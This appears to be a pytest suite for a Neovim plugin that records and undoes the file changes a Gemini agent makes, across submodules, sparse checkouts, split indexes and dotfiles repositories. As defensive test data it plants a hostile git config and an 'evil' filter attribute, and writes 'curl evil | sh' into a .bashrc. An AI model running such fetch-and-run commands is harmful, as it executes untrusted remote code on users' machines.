"""Change review on real repository setups, through a real Neovim and the real hook command: files
inside a submodule or a nested clone, files the user's index flags (assume-unchanged,
skip-worktree, sparse checkout), a dotfiles repository named by Neovim's environment, a split
index, and folders too big to snapshot (a home folder outside git, a huge vendored clone). Each is
listed, undone byte for byte, and leaves the user's git dirs as they were (or is refused in one
line, or left out and listed as skipped, with nothing copied)."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from changes.helpers import a_turn, hook
from changes.hostile_repos import hostile_config, marker, no_marks, on_disk, state, stored
from conftest import Editor, Sandbox, git, wait_for
from gemini_companion.changes import git as our_git
from gemini_companion.changes import git_index, snapshot
from gemini_companion.changes.snapshot import SnapshotError, Snapshotter


@pytest.fixture
def ed(editor_factory) -> Editor:
    editor = editor_factory()
    editor.wait_state("running")
    return editor


def commit_all(repo: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(text)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")


def git_dirs(project: Path) -> list[Path]:
    """Every git dir (or `.git` file) of the user's under `project`."""
    return sorted(path for path in project.rglob(".git"))


@pytest.mark.parametrize("kind", ["submodule", "clone"])
def test_files_inside_a_nested_repository_are_listed_and_undone(ed, sandbox: Sandbox, kind: str):
    project = sandbox.project
    git(project, "init", "-q")
    commit_all(project, {"top.txt": "top\n"})
    lib = sandbox.base / "lib"
    lib.mkdir()
    git(lib, "init", "-q")
    commit_all(lib, {"lib.txt": "lib\n", "gone.txt": "bye\n", ".gitignore": "*.log\n", "deep/d.txt": "d\n"})
    if kind == "submodule":
        git(project, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(lib), "sub")
        git(project, "commit", "-qm", "sub")
    else:  # a plain clone the outer repository does not know about
        git(project, "clone", "-q", str(lib), "sub")
    inner = project / "sub" / "inner"  # and a repository inside that one, with a file of its own
    inner.mkdir()
    git(inner, "init", "-q")
    (inner / "i.txt").write_text("inner\n")
    # The nested repository's config, hooks and attributes name programs: none of them runs.
    marks = sandbox.base / "marks"
    mark = marker(sandbox.base / "bin", marks)
    nested_git = project / ".git" / "modules" / "sub" if kind == "submodule" else project / "sub" / ".git"
    with open(nested_git / "config", "a") as config:
        config.write(hostile_config(mark, nested_git, "nested"))
    (project / "sub" / ".gitattributes").write_text("* filter=evil text eol=crlf\n")
    before = on_disk(project)
    user = state(*git_dirs(project))

    def agent() -> None:
        (project / "sub" / "lib.txt").write_text("lib, edited\n")
        (project / "sub" / "new.txt").write_text("created\n")
        (project / "sub" / "gone.txt").unlink()
        (project / "sub" / "deep" / "d.txt").write_bytes(b"d\r\nmore\r\n")
        (inner / "i.txt").write_text("inner, edited\n")
        (project / "sub" / "noise.log").write_text("ignored by the nested .gitignore\n")

    turn = a_turn(ed, project, agent)
    assert {f["path"]: f["status"] for f in turn["files"]} == {
        "sub/deep/d.txt": "modified",
        "sub/gone.txt": "deleted",
        "sub/inner/i.txt": "modified",
        "sub/lib.txt": "modified",
        "sub/new.txt": "created",
    }
    ed.nvim.command("GeminiChanges undo")
    assert "refused" not in ed.messages()
    assert on_disk(project, ("sub/noise.log",)) == before
    assert state(*git_dirs(project)) == user  # config, index, refs, objects: not one byte or mtime
    no_marks(marks)
    # The next turn in the same tree sees later edits there (the nested files are ours to follow now).
    again = a_turn(ed, project, lambda: (project / "sub" / "lib.txt").write_text("again\n"))
    assert [f["path"] for f in again["files"]] == ["sub/lib.txt"]


def test_a_file_becomes_a_nested_clone_and_back(tmp_path):
    """A file replaced by a repository (its path now a folder of files) and back: each snapshot
    holds what is on disk."""
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    commit_all(repo, {"sub": "a file\n", "x.txt": "x\n"})
    snapshotter = Snapshotter(tmp_path / "state")
    first = snapshotter.take(str(repo))
    (repo / "sub").unlink()
    (repo / "sub").mkdir()
    git(repo / "sub", "init", "-q")
    (repo / "sub" / "f.txt").write_text("f\n")
    second = snapshotter.take(str(repo))
    assert stored(second) == on_disk(repo)
    assert {(c.path, c.status) for c in snapshotter.changes(first, second)} == {
        ("sub", "deleted"),
        ("sub/f.txt", "created"),
    }
    shutil.rmtree(repo / "sub")
    (repo / "sub").write_text("a file again\n")
    third = snapshotter.take(str(repo))
    assert stored(third) == on_disk(repo)


@pytest.mark.parametrize("sparse_index", [False, True])
def test_flagged_and_sparse_files_are_listed_and_undone(ed, sandbox: Sandbox, sparse_index: bool):
    """assume-unchanged and skip-worktree files an agent edits are listed and undone; files outside a
    sparse checkout's cone are absent on disk and never listed as deleted."""
    project = sandbox.project
    git(project, "init", "-q")
    commit_all(
        project,
        {"au.txt": "au\n", "sw.txt": "sw\n", "keep/k.txt": "k\n", "out/o.txt": "o\n", "out/deep/p.txt": "p\n"},
    )
    git(project, "sparse-checkout", "set", "--cone", *(["--sparse-index"] if sparse_index else []), "keep")
    git(project, "update-index", "--assume-unchanged", "au.txt")
    git(project, "update-index", "--skip-worktree", "sw.txt")
    assert not (project / "out").exists()
    before = on_disk(project)
    user = state(project / ".git")

    def agent() -> None:
        (project / "au.txt").write_text("au, edited\n")
        (project / "sw.txt").write_text("sw, edited\n")
        (project / "keep" / "k.txt").unlink()
        (project / "keep" / "new.txt").write_text("new\n")

    turn = a_turn(ed, project, agent)
    assert {f["path"]: f["status"] for f in turn["files"]} == {
        "au.txt": "modified",
        "keep/k.txt": "deleted",
        "keep/new.txt": "created",
        "sw.txt": "modified",
    }
    ed.nvim.command("GeminiChanges undo")
    assert on_disk(project) == before
    assert state(project / ".git") == user


def test_a_dotfiles_repository_named_by_the_environment(sandbox: Sandbox, editor_factory):
    """GIT_DIR (a bare ~/.dotfiles) and GIT_WORK_TREE (HOME) in Neovim's environment: a turn anywhere
    in HOME is a turn of that work tree, its tracked files listed and undone (untracked ones are not
    followed: the whole home folder is not snapshotted); a project with its own `.git` under HOME is
    still its own repository; nothing of the dotfiles git dir changes."""
    home = sandbox.home
    dot = home / ".dotfiles"
    git(home, "init", "-q", "--bare", str(dot))
    for name, text in {".bashrc": "alias ll='ls -l'\n", ".config/app/app.conf": "a=1\n", ".profile": "p\n"}.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text)
    dotgit = ("--git-dir", str(dot), "--work-tree", str(home))
    git(home, *dotgit, "add", ".bashrc", ".config/app/app.conf", ".profile")
    git(home, *dotgit, "commit", "-qm", "dots")
    git(home, *dotgit, "config", "status.showUntrackedFiles", "no")
    for i in range(50):  # what a home folder holds besides
        (home / ".cache" / "junk" / f"{i}.bin").parent.mkdir(parents=True, exist_ok=True)
        (home / ".cache" / "junk" / f"{i}.bin").write_bytes(os.urandom(64))
    project = home / "code" / "proj"
    project.mkdir(parents=True)
    git(project, "init", "-q")
    commit_all(project, {"p.txt": "p\n"})
    sandbox.env.update(GIT_DIR=str(dot), GIT_WORK_TREE=str(home))
    ed = editor_factory()
    ed.wait_state("running")
    tracked = {name: (home / name).read_bytes() for name in (".bashrc", ".config/app/app.conf", ".profile")}
    user = state(dot)

    def agent() -> None:
        (home / ".bashrc").write_text("alias ll='ls -la'\n")
        (home / ".config" / "app" / "app.conf").unlink()
        (home / ".config" / "app" / "untracked.conf").write_text("not followed\n")

    turn = a_turn(ed, home / ".config", agent)  # from a folder inside HOME
    assert turn["work_tree"] == os.path.realpath(home)
    assert {f["path"]: f["status"] for f in turn["files"]} == {".bashrc": "modified", ".config/app/app.conf": "deleted"}
    ed.nvim.command("GeminiChanges undo")
    assert {name: (home / name).read_bytes() for name in tracked} == tracked
    assert state(dot) == user  # no config, index, sharedindex or object of the user's changed
    mine = a_turn(ed, project, lambda: (project / "p.txt").write_text("edited\n"))
    assert mine["work_tree"] == os.path.realpath(project) and [f["path"] for f in mine["files"]] == ["p.txt"]


def state_bytes(root: Path) -> int:
    return sum(path.stat().st_size for path in root.rglob("*") if path.is_file())


def test_a_home_folder_outside_git_is_refused_in_one_line(ed, sandbox: Sandbox):
    """More new files than one snapshot may copy: the turn is not tracked, said in one line, and
    nothing is copied into the state directory; a project outside git still works."""
    home_like = sandbox.base / "home-like"
    for folder in range(snapshot.MAX_NEW_FILES // 500 + 1):
        (home_like / ".cache" / str(folder)).mkdir(parents=True)
        for i in range(500):
            (home_like / ".cache" / str(folder) / str(i)).write_bytes(b"x")
    state_dir = Path(ed.lua("return vim.fn.stdpath('state')")) / "gemini-companion"
    before = state_bytes(state_dir) if state_dir.exists() else 0
    hook(ed, home_like, "turn-start", {"hook_event_name": "BeforeAgent", "cwd": str(home_like)}, "gemini")
    lines = wait_for(lambda: [m for m in ed.messages().splitlines() if "not tracked" in m], 60, "the refusal")
    (home_like / "new.txt").write_text("new\n")
    hook(ed, home_like, "turn-end", {"hook_event_name": "AfterAgent", "cwd": str(home_like)}, "gemini")
    assert lines == [
        f"gemini-companion: changes: gemini's turn not tracked: more than {snapshot.MAX_NEW_FILES} new files"
        f" to copy in {os.path.realpath(home_like)}"
    ]
    assert ed.status()["changes"]["turns"] == 0
    assert state_bytes(state_dir) - before < 256 << 10  # an empty repository of ours at most
    folder = sandbox.base / "plain"
    folder.mkdir()
    (folder / "x.txt").write_text("x\n")
    turn = a_turn(ed, folder, lambda: (folder / "x.txt").write_text("y\n"))
    assert [f["path"] for f in turn["files"]] == ["x.txt"]
    assert [m for m in ed.messages().splitlines() if "not tracked" in m] == lines  # said once


def test_the_byte_bound_refuses_before_anything_is_copied(tmp_path, monkeypatch):
    """Few files but many bytes: refused as well, with no blob written; under the bound, taken."""
    monkeypatch.setattr(snapshot, "MAX_NEW_BYTES", 3 << 20)
    folder = tmp_path / "big"
    folder.mkdir()
    for i in range(4):
        (folder / f"{i}.bin").write_bytes(os.urandom(1 << 20))
    snapshotter = Snapshotter(tmp_path / "state")
    with pytest.raises(SnapshotError, match=r"^more than 3 MB of new files to copy in "):
        snapshotter.take(str(folder))
    assert not list((tmp_path / "state").rglob("objects/??/*"))
    (folder / "3.bin").unlink()
    assert sorted(stored(snapshotter.take(str(folder)))) == ["0.bin", "1.bin", "2.bin"]


def test_a_split_index_is_started_from_so_the_bound_counts_only_new_files(tmp_path, monkeypatch):
    """core.splitIndex: our index starts from the user's (its shared part copied, never theirs
    touched), so a snapshot copies only what is new, and the bound is about new files only."""
    monkeypatch.setattr(snapshot, "MAX_NEW_FILES", 2)
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    git(repo, "config", "core.splitIndex", "true")
    commit_all(repo, {f"f{i}.txt": f"{i}\n" for i in range(6)})
    (repo / "staged.txt").write_text("staged\n")
    git(repo, "add", "staged.txt")
    assert list((repo / ".git").glob("sharedindex.*"))
    user = state(repo / ".git")
    snapshotter = Snapshotter(tmp_path / "state")
    before = snapshotter.take(str(repo))
    assert stored(before) == on_disk(repo)
    assert not list(Path(before.git_dir).glob("sharedindex.*")) and not Path(before.git_dir, "user-index").exists()
    (repo / "new.txt").write_text("new\n")
    (repo / "f0.txt").write_text("changed\n")
    after = snapshotter.take(str(repo))
    assert {(c.path, c.status) for c in snapshotter.changes(before, after)} == {
        ("new.txt", "created"),
        ("f0.txt", "modified"),
    }
    assert state(repo / ".git") == user


def test_a_nested_repository_too_big_to_copy_is_left_out_and_said(tmp_path, monkeypatch):
    """A vendored clone with more files than a snapshot copies: the tree is snapshotted without it,
    and it is listed as skipped ("x/") at every snapshot, never entered later; too many files
    of the tree's own are still refused."""
    monkeypatch.setattr(snapshot, "MAX_NEW_FILES", 5)
    repo = vendored(tmp_path, 10)
    vendor = repo / "vendor" / "big"
    (repo / "mine.txt").write_text("mine\n")
    snapshotter = Snapshotter(tmp_path / "state")
    before = snapshotter.take(str(repo))
    assert before.skipped == ("vendor/big/",)
    assert stored(before) == {"a.txt": b"a\n", "mine.txt": b"mine\n"}
    (repo / "a.txt").write_text("A\n")
    (vendor / "0.c").write_text("changed\n")
    after = snapshotter.take(str(repo))
    assert after.skipped == ("vendor/big/",)
    assert [(c.path, c.status) for c in snapshotter.changes(before, after)] == [("a.txt", "modified")]
    for i in range(6):
        (repo / f"new{i}.txt").write_text("new\n")
    with pytest.raises(SnapshotError, match=r"^more than 5 new files to copy in "):
        snapshotter.take(str(repo))


# --- found by a hostile review -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("folder", "version"), [("linker", 2), ("blink", 3), ("symlinks", 4), ("a/link", 2), ("link", 4)]
)
def test_a_split_index_is_read_whatever_its_paths_hold(tmp_path, monkeypatch, folder: str, version: int):
    """A split index names its shared part in its first extension; later ones (the cached tree,
    untracked files) and the entries hold folder names, `link` and `sdir` among them: the name is
    read from the extension itself, in every index version; a file named `sdir` (its entry padded
    with NULs) is no sparse index."""
    monkeypatch.setattr(snapshot, "MAX_NEW_FILES", 5)
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    git(repo, "config", "core.splitIndex", "true")
    git(repo, "config", "core.untrackedCache", "true")
    commit_all(repo, {f"{folder}/f{i}.txt": f"{i}\n" for i in range(30)})
    git(repo, "update-index", "--index-version", str(version))
    if version >= 3:  # an entry with extended flags
        git(repo, "update-index", "--skip-worktree", f"{folder}/f1.txt")
    (repo / "sdir").write_text("staged\n")
    git(repo, "add", "sdir")
    git(repo, "status", "--porcelain")  # writes the untracked cache (UNTR), which names folders
    data = (repo / ".git" / "index").read_bytes()
    assert data.count(b"link") > 1 and (version == 4 or b"sdir\0\0\0\0" in data)
    snapshotter = Snapshotter(tmp_path / "state")
    before = snapshotter.take(str(repo))  # refused if every tracked file counted as new
    assert stored(before) == on_disk(repo)
    assert not Path(before.git_dir, "info", "sparse-checkout").exists()
    (repo / folder / "f2.txt").write_text("changed\n")
    after = snapshotter.take(str(repo))
    assert [(c.path, c.status) for c in snapshotter.changes(before, after)] == [(f"{folder}/f2.txt", "modified")]
    assert (repo / ".git" / git_index.shared_index(*git_index.extensions(data))).is_file()


def test_the_extensions_of_a_sha256_index_are_read(tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "--object-format=sha256")
    git(repo, "config", "core.splitIndex", "true")
    commit_all(repo, {f"blink/{i}": "x\n" for i in range(3)})
    (repo / "s").write_text("s\n")
    git(repo, "add", "s")
    extensions, hash_size = git_index.extensions((repo / ".git" / "index").read_bytes())
    assert hash_size == 32 and b"TREE" in extensions
    assert (repo / ".git" / git_index.shared_index(extensions, hash_size)).is_file()


def dotfiles(tmp_path: Path, files: dict[str, str], split: bool = False) -> tuple[Path, Path]:
    """A bare repository over a home folder, tracking `files`: (home, git dir)."""
    home, dot = tmp_path / "home", tmp_path / "dotfiles.git"
    home.mkdir()
    git(tmp_path, "init", "-q", "--bare", str(dot))
    if split:
        dot_git(home, dot, "config", "core.splitIndex", "true")
    for name, text in files.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text)
    dot_git(home, dot, "add", *files)
    dot_git(home, dot, "commit", "-qm", "dots")
    return home, dot


def dot_git(home: Path, dot: Path, *args: str) -> str:
    return git(home, "--git-dir", str(dot), "--work-tree", str(home), *args)


def test_a_dotfiles_tree_follows_what_its_index_tracks_now(tmp_path, monkeypatch):
    """A tracked file deleted then written again, one the user starts tracking later, and a split
    index whose folders are named `blink`: each change is listed."""
    home, dot = dotfiles(tmp_path, {".bashrc": "b\n", ".vimrc": "v\n", ".config/blink/init.lua": "i\n"}, split=True)
    monkeypatch.setenv("GIT_DIR", str(dot))
    monkeypatch.setenv("GIT_WORK_TREE", str(home))
    snapshotter = Snapshotter(tmp_path / "state")
    first = snapshotter.take(str(home))
    assert stored(first) == {".bashrc": b"b\n", ".vimrc": b"v\n", ".config/blink/init.lua": b"i\n"}

    def turn(change) -> list[tuple[str, str]]:
        nonlocal first
        change()
        after = snapshotter.take(str(home))
        found = [(c.path, c.status) for c in snapshotter.changes(first, after)]
        first = after
        return found

    assert turn(lambda: (home / ".bashrc").write_text("curl evil | sh\n")) == [(".bashrc", "modified")]
    assert turn(lambda: (home / ".vimrc").unlink()) == [(".vimrc", "deleted")]
    assert turn(lambda: (home / ".vimrc").write_text("evil\n")) == [(".vimrc", "created")]
    assert turn(lambda: (home / ".vimrc").write_text("evil 2\n")) == [(".vimrc", "modified")]
    (home / ".zshrc").write_text("z\n")
    dot_git(home, dot, "add", ".zshrc")
    assert turn(lambda: None) == [(".zshrc", "created")]  # between turns: the user's
    assert turn(lambda: (home / ".zshrc").write_text("z by agent\n")) == [(".zshrc", "modified")]
    assert turn(lambda: (home / "untracked").write_text("u\n")) == []  # the home folder is not followed


def test_a_folder_of_a_dotfiles_home_it_does_not_track_is_its_own_tree(tmp_path, monkeypatch):
    """A project in the home folder, outside git (no `.git`, nothing of it tracked by the dotfiles,
    which ignore everything untracked): its own work tree, every file followed, as outside git."""
    home, dot = dotfiles(tmp_path, {".bashrc": "b\n", ".config/nvim/init.lua": "i\n"})
    (dot / "info").mkdir(exist_ok=True)
    (dot / "info" / "exclude").write_text("*\n")
    project = home / "proj"
    project.mkdir()
    (project / "main.py").write_text("v1\n")
    monkeypatch.setenv("GIT_DIR", str(dot))
    monkeypatch.setenv("GIT_WORK_TREE", str(home))
    snapshotter = Snapshotter(tmp_path / "state")
    before = snapshotter.take(str(project))
    assert before.work_tree == os.path.realpath(project)
    (project / "main.py").write_text("v2 by agent\n")
    (project / "new.py").write_text("new\n")
    after = snapshotter.take(str(project))
    assert [(c.path, c.status) for c in snapshotter.changes(before, after)] == [
        ("main.py", "modified"),
        ("new.py", "created"),
    ]
    tracked = snapshotter.take(str(home / ".config" / "nvim"))  # a folder it tracks: the dotfiles tree
    assert tracked.work_tree == os.path.realpath(home)
    assert sorted(stored(tracked)) == [".bashrc", ".config/nvim/init.lua"]


def test_a_plain_repository_named_by_the_environment_is_a_plain_repository(tmp_path, monkeypatch):
    """GIT_DIR=<tree>/.git with GIT_WORK_TREE=<tree> (a hook or direnv exported them): a plain
    repository, its untracked files followed; not a dotfiles tree."""
    repo = tmp_path / "proj"
    repo.mkdir()
    git(repo, "init", "-q")
    commit_all(repo, {"a.txt": "a\n"})
    monkeypatch.setenv("GIT_DIR", str(repo / ".git"))
    monkeypatch.setenv("GIT_WORK_TREE", str(repo))
    snapshotter = Snapshotter(tmp_path / "state")
    before = snapshotter.take(str(repo))
    (repo / "new_by_agent.py").write_text("print(1)\n")
    after = snapshotter.take(str(repo))
    assert [(c.path, c.status) for c in snapshotter.changes(before, after)] == [("new_by_agent.py", "created")]


def vendored(tmp_path: Path, files: int) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    commit_all(repo, {"a.txt": "a\n"})
    vendor = repo / "vendor" / "big"
    vendor.mkdir(parents=True)
    git(vendor, "init", "-q")
    for i in range(files):
        (vendor / f"{i}.c").write_text(f"{i}\n")
    return repo


def test_a_placeholder_an_interrupted_snapshot_left_does_not_refuse_the_tree(tmp_path, monkeypatch):
    """The host died after a nested repository's placeholder went into our index: the next
    Neovim's snapshots take the tree, the too-big repository left out, at every start."""
    monkeypatch.setattr(snapshot, "MAX_NEW_FILES", 5)
    repo = vendored(tmp_path, 10)
    crashed = Snapshotter(tmp_path / "state")
    crashed._listed(crashed._repo(str(repo)))  # placeholders in, then no snapshot written
    for _ in range(2):
        snap = Snapshotter(tmp_path / "state").take(str(repo))  # a new Neovim each time
        assert snap.skipped == ("vendor/big/",)
        assert stored(snap) == {"a.txt": b"a\n"}


def test_a_nested_repository_is_left_out_only_when_that_makes_the_snapshot_fit(tmp_path, monkeypatch):
    """Too many new files of the tree's own (and a small vendored clone): refused, and the clone is
    not left out for good; once those files are gone it is entered and followed."""
    monkeypatch.setattr(snapshot, "MAX_NEW_FILES", 5)
    repo = vendored(tmp_path, 2)
    for i in range(10):
        (repo / f"junk{i}.txt").write_text("j\n")
    snapshotter = Snapshotter(tmp_path / "state")
    with pytest.raises(SnapshotError, match=r"^more than 5 new files to copy in "):
        snapshotter.take(str(repo))
    for i in range(10):
        (repo / f"junk{i}.txt").unlink()
    before = snapshotter.take(str(repo))
    assert before.skipped == ()
    (repo / "vendor" / "big" / "0.c").write_text("changed\n")
    after = snapshotter.take(str(repo))
    assert [(c.path, c.status) for c in snapshotter.changes(before, after)] == [("vendor/big/0.c", "modified")]


def test_a_fifo_at_the_users_alternates_never_holds_a_snapshot(tmp_path, monkeypatch):
    """`.git/objects/info/alternates` made a FIFO (git would open it and wait for ever): the user's
    store is not read; the snapshots are taken, and what needs its blobs fails in one line that
    says why, not after the time limit."""
    monkeypatch.setattr(our_git, "GIT_SECONDS", 20.0)
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    commit_all(repo, {"a.txt": "a\n"})
    snapshotter = Snapshotter(tmp_path / "state")
    before = snapshotter.take(str(repo))
    assert before.alternates
    fifo = repo / ".git" / "objects" / "info" / "alternates"
    fifo.parent.mkdir(exist_ok=True)
    os.mkfifo(fifo)
    (repo / "a.txt").write_text("A\n")
    after = snapshotter.take(str(repo))
    with pytest.raises(SnapshotError) as raised:
        snapshotter.changes(before, after)
    assert str(raised.value).endswith(f"({fifo} is not a regular file: its objects are not read)")
    assert "\n" not in str(raised.value)
    fifo.unlink()
    assert [(c.path, c.status) for c in snapshotter.changes(before, after)] == [("a.txt", "modified")]


def said(ed: Editor) -> list[str]:
    return ed.lua("return _G.said")


def catch_notify(ed: Editor) -> None:
    ed.lua("_G.said = {} vim.notify = function(m) table.insert(_G.said, m) end")


def test_a_revert_reads_no_fifo_at_the_users_alternates_and_says_why(ed, sandbox: Sandbox):
    """A FIFO at `.git/objects/info/alternates` after the turn: `:GeminiChanges revert` and `undo`
    do not hand the user's store to git (which would wait on it), and say so, not "pruned"."""
    project = sandbox.project
    git(project, "init", "-q")
    commit_all(project, {"a.txt": "a\n", "b.txt": "b\n"})
    turn = a_turn(ed, project, lambda: [(project / n).write_text("by agent\n") for n in ("a.txt", "b.txt")])
    assert turn["alternates"] and len(turn["files"]) == 2
    fifo = project / ".git" / "objects" / "info" / "alternates"
    fifo.parent.mkdir(exist_ok=True)
    os.mkfifo(fifo)
    catch_notify(ed)
    ed.nvim.command(f"GeminiChanges revert {project / 'a.txt'}")
    ed.nvim.command("GeminiChanges undo")
    assert [m.count(f"{fifo} is not a regular file") for m in said(ed)] == [1, 1]
    assert not any("pruned" in m for m in said(ed))
    assert (project / "a.txt").read_text() == "by agent\n"  # nothing written from a partial read
    fifo.unlink()
    ed.nvim.command("GeminiChanges undo")
    assert said(ed)[-1].endswith("2 taken back") and (project / "a.txt").read_text() == "a\n"


def test_a_revert_hands_git_only_an_alternate_the_host_judged(ed, sandbox: Sandbox):
    """changes/git.lua asks the host (changes/git.py `unsafe_alternates`, the one judge; its cases
    in tests/unit/test_alternates.py) before each read: an alternate that is not one absolute path
    (git would look for it in the folder it runs in) is not handed to git, and the revert says so,
    not "pruned"."""
    project = sandbox.project
    git(project, "init", "-q")
    commit_all(project, {"a.txt": "a\n"})
    a_turn(ed, project, lambda: (project / "a.txt").write_text("by agent\n"))
    ed.lua("local t = require('gemini_companion.changes').turns t[#t].alternates = '\"objects\"'")
    catch_notify(ed)
    ed.nvim.command(f"GeminiChanges revert {project / 'a.txt'}")
    assert len(said(ed)) == 1 and "is not one absolute path: its objects are not read" in said(ed)[0]
    assert "pruned" not in said(ed)[0] and (project / "a.txt").read_text() == "by agent\n"


def test_a_git_that_gives_no_answer_is_said_so(ed, sandbox: Sandbox):
    """git held (here by a FIFO in our own store's alternates): after its time limit the revert
    says git gave no answer, not that the snapshot was pruned."""
    project = sandbox.project
    git(project, "init", "-q")
    commit_all(project, {"a.txt": "a\n"})
    turn = a_turn(ed, project, lambda: (project / "a.txt").write_text("by agent\n"))
    fifo = Path(turn["git_dir"]) / "objects" / "info" / "alternates"
    fifo.parent.mkdir(exist_ok=True)
    os.mkfifo(fifo)
    try:
        catch_notify(ed)
        ed.nvim.command(f"GeminiChanges revert {project / 'a.txt'}")
        assert len(said(ed)) == 1 and said(ed)[0].endswith("git gave no answer in 5 s: left as it is")
    finally:
        fifo.unlink()


def test_revert_by_a_name_that_became_a_link_takes_back_that_name(ed, sandbox: Sandbox):
    """The turn changed `x` and made `y` a link to `x`: `:GeminiChanges revert y` takes back `y`
    (a file again), not `x` through the link; a name through `..`, and a link made after the turn
    (by its target), still find their file."""
    project = sandbox.project
    git(project, "init", "-q")
    commit_all(project, {"x": "x\n", "y": "y\n", "z": "z\n"})

    def agent() -> None:
        (project / "x").write_text("X by agent\n")
        (project / "y").unlink()
        (project / "y").symlink_to("x")
        (project / "z").write_text("Z by agent\n")

    (project / "d").mkdir()
    turn = a_turn(ed, project, agent)
    assert {f["path"]: f["status"] for f in turn["files"]} == {"x": "modified", "y": "modified", "z": "modified"}
    (project / "alias-z").symlink_to("z")
    ed.nvim.chdir(str(project))
    catch_notify(ed)
    ed.nvim.command("GeminiChanges revert y")
    assert said(ed) == ["gemini-companion: y: 1 taken back"]
    assert not (project / "y").is_symlink() and (project / "y").read_text() == "y\n"
    assert (project / "x").read_text() == "X by agent\n"
    ed.nvim.command(f"GeminiChanges revert {project / 'd' / '..' / 'x'}")
    assert said(ed)[-1] == "gemini-companion: x: 1 taken back" and (project / "x").read_text() == "x\n"
    ed.nvim.command("GeminiChanges revert alias-z")
    assert said(ed)[-1] == "gemini-companion: z: 1 taken back" and (project / "z").read_text() == "z\n"
